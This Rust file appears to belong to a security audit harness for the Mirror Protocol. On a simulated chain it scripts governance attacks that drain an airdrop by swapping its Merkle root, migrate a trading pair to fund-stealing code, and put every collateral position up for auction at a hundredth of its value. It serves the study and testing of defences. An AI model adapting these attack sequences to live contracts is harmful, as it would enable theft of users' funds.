//! What one default poll could do: a fifth of the stake passes it while nobody else votes.

use cosmwasm_std::Uint128;
use mirror_merkle::{leaf, Tree};
use mirror_protocol::{airdrop, mint};
use mirror_testing::{percent, standard_profile, TestChain, World};
use terraswap::asset::Asset;

use crate::attacks::attack::Attack;
use crate::attacks::fixtures::{self, MILLION};
use crate::attacks::polls::{self, Proposal, FIFTH, THIRD};
use crate::attacks::report::{Attempt, Findings};
use crate::attacks::thieving_code;
use crate::attacks::transaction::Transaction;
use crate::attacks::trial::Trial;

pub(super) const AIRDROP: Attack = Attack {
    name: "default poll: the airdrop",
    story: "A fifth of the stake passed a list with one account on it for the airdrop, without a \
            total: it paid all 9.15 million MIR.",
    run: airdrop,
};

pub(super) const PAIR: Attack = Attack {
    name: "default poll: a pair's code",
    story: "The pair factory gives a pair other code at its owner's word, and a default poll was \
            that: a pool of a million coins was the attacker's.",
    run: pair,
};

pub(super) const COLLATERAL: Attack = Attack {
    name: "default poll: everybody's collateral",
    story: "update_asset with a discount of 0.99 and a minimum of 1,000 put every position up for \
            sale, at a hundredth of what it held.",
    run: collateral,
};

/// A list with only the attacker on it, and the proof for the claim.
fn list_of(trial: &Trial, amount: Uint128) -> anyhow::Result<(Tree, Vec<String>)> {
    let own = leaf(trial.attacker.as_str(), amount);
    let tree = Tree::new(vec![own])?;
    let proof = tree.proof(&own);
    let proof = proof.iter().flatten().map(ToString::to_string).collect();
    Ok((tree, proof))
}

fn airdrop() -> anyhow::Result<Findings> {
    Ok(Findings {
        attempts: vec![
            lists(
                false,
                "had a list with one account registered, without a total",
            )?,
            lists(true, "had the last list replaced by one with one account")?,
        ],
        exposures: vec![],
    })
}

/// Registers a new list, or replaces the list of a stage that exists.
fn lists(replaces: bool, tried: &str) -> anyhow::Result<Attempt> {
    let profile = standard_profile(&TestChain::new());
    let mut trial = polls::governed(profile, FIFTH)?;
    let at = trial.world.at.clone();
    let (contract, stage_no) = match replaces {
        true => (at.airdrop.clone(), 1),
        false => (at.uni_airdrop.clone(), 1),
    };
    trial.measures_account(contract.clone())?;
    let left = trial.world.token_balance(&at.mirror_token, &contract);
    let (tree, proof) = list_of(&trial, left)?;
    let merkle_root = tree.root().to_string();
    let proposal = match replaces {
        true => airdrop::ExecuteMsg::UpdateMerkleRoot {
            stage: stage_no,
            merkle_root,
        },
        false => airdrop::ExecuteMsg::RegisterMerkleRoot {
            merkle_root,
            total_amount: None,
            expiration: None,
        },
    };
    let proposal = Proposal::call(&contract, &proposal)?;
    polls::passes(&mut trial, "T-87", &proposal)?;
    let claim = airdrop::ExecuteMsg::Claim {
        stage: stage_no,
        amount: left,
        proof,
        address: None,
    };
    trial.tries("T-87", Transaction::new().calls(&contract, &claim))?;
    polls::leaves(&mut trial)?;
    trial.ends(tried)
}

fn pair() -> anyhow::Result<Findings> {
    let mut trial = polls::governed_with_apple(FIFTH)?;
    let pair = trial.world.asset("mAAPL").pair;
    let code_id = trial.world.chain.app.store_code(thieving_code::code());
    let migrate = terraswap::factory::ExecuteMsg::MigratePair {
        contract: pair.into_string(),
        code_id: Some(code_id),
    };
    let proposal = Proposal::call(&trial.world.at.swap_factory, &migrate)?;
    polls::passes(&mut trial, "T-87", &proposal)?;
    polls::leaves(&mut trial)?;
    let one = trial.ends("had a pair given code that pays its coins to the attacker")?;

    let mut trial = polls::governed_with_apple(FIFTH)?;
    let config = terraswap::factory::ExecuteMsg::UpdateConfig {
        owner: None,
        token_code_id: None,
        pair_code_id: Some(trial.world.chain.app.store_code(thieving_code::code())),
    };
    let swap_factory = trial.world.at.swap_factory.clone();
    polls::passes(&mut trial, "T-87", &Proposal::call(&swap_factory, &config)?)?;
    let migrate = terraswap::factory::ExecuteMsg::MigratePair {
        contract: trial.world.asset("mAAPL").pair.into_string(),
        code_id: None,
    };
    polls::passes(
        &mut trial,
        "T-87",
        &Proposal::call(&swap_factory, &migrate)?,
    )?;
    polls::leaves(&mut trial)?;
    let two =
        trial.ends("first had such code made that of all new pairs, then the pair given it")?;

    let mut trial = polls::governed_with_apple(THIRD)?;
    let migrate = terraswap::factory::ExecuteMsg::MigratePair {
        contract: trial.world.asset("mAAPL").pair.into_string(),
        code_id: Some(trial.world.chain.app.store_code(thieving_code::code())),
    };
    let proposal = Proposal::execute(&trial.world.at.swap_factory, &migrate)?;
    polls::passes(&mut trial, "T-87", &proposal)?;
    polls::leaves(&mut trial)?;
    let three = trial.ends("with a third of the stake tried the first as an execute poll")?;
    Ok(Findings {
        attempts: vec![one, two, three],
        exposures: vec![],
    })
}

/// The terms on which positions are put up for sale.
#[derive(Clone, Copy)]
struct Terms {
    /// The discount of auctions, in per cent.
    discount: Option<u64>,
    /// The minimum ratios in per cent, one poll for each, carried out in one block.
    ratios: &'static [u64],
    /// The ratio of bob's position, in per cent.
    of_bob: u64,
}

fn collateral() -> anyhow::Result<Findings> {
    let ways = [
        (
            Some(99),
            &[100_000][..],
            "had everybody's collateral put up for sale at a hundredth",
        ),
        (
            Some(31),
            &[160],
            "had it put up for sale a per cent cheaper than the most that may be",
        ),
        (
            Some(30),
            &[161],
            "raised the minimum by a per cent more than may be",
        ),
        (
            None,
            &[160, 170, 180, 190, 200],
            "had it raised by a tenth five times in a block",
        ),
        (
            None,
            &[140, 160, 170],
            "had it lowered and then raised beyond where it was",
        ),
    ];
    let attempts = ways.map(|(discount, ratios, tried)| {
        // The allowed changes reach positions below 160 % only.
        let terms = Terms {
            discount,
            ratios,
            of_bob: 165,
        };
        sells_out(terms, tried)
    });
    let most = Terms {
        discount: Some(30),
        ratios: &[160],
        of_bob: 155,
    };
    Ok(Findings {
        attempts: attempts.into_iter().collect::<anyhow::Result<_>>()?,
        exposures: vec![sells_out(most, "")?.exposes(
            "a fifth of the stake, while nobody votes for eight days: the minimum rises by a tenth \
             and the discount to 0.3, and a position of a million at 155 % whose owner does not \
             look is bought",
        )],
    })
}

/// The polls put bob's position of a million coins up for sale, and the attacker bids for it.
fn sells_out(terms: Terms, tried: &str) -> anyhow::Result<Attempt> {
    let mut trial = polls::governed_with_apple(FIFTH)?;
    let idx = trial
        .world
        .bob()
        .opens(MILLION, "mAAPL", percent(terms.of_bob));
    let owed = fixtures::held(&trial.world, &trial.world.token("mAAPL"), "bob");
    let (bob, attacker) = (trial.world.chain.account("bob"), trial.attacker.clone());
    // The attacker gets the tokens for bob's debt before the measurement: they count at their fair
    // price.
    let token = trial.world.token("mAAPL");
    trial.world.bob().gives(&token, owed.u128(), &attacker);
    let mut trial = measured_again(trial)?;
    trial.measures_account(bob)?;
    let proposals = proposals(&trial.world, terms)?;
    polls::passes_together(&mut trial, "T-87", &proposals)?;
    trial.world.feeds(&[("mAAPL", "10")]);
    let mint = trial.world.at.mint.clone();
    trial.tries(
        "T-87",
        Transaction::new().auctions(&mint, idx, Asset::token(&token, owed)),
    )?;
    polls::leaves(&mut trial)?;
    trial.ends(tried)
}

fn proposals(world: &World, terms: Terms) -> anyhow::Result<Vec<Proposal>> {
    let token = world.token("mAAPL");
    let proposal = |ratio: &u64| {
        let update = mint::ExecuteMsg::UpdateAsset {
            asset_token: token.to_string(),
            auction_discount: terms.discount.map(percent),
            min_collateral_ratio: Some(percent(*ratio)),
            ipo_params: None,
            debt_cap: None,
        };
        Proposal::passed(world, &world.at.mint, &update)
    };
    terms.ratios.iter().map(proposal).collect()
}

/// Start measuring again from here.
fn measured_again(trial: Trial) -> anyhow::Result<Trial> {
    let prices = [
        ("mAAPL", fixtures::price("10")?),
        ("MIR", fixtures::price("0.5")?),
    ];
    Trial::new(trial.world, &prices)
}
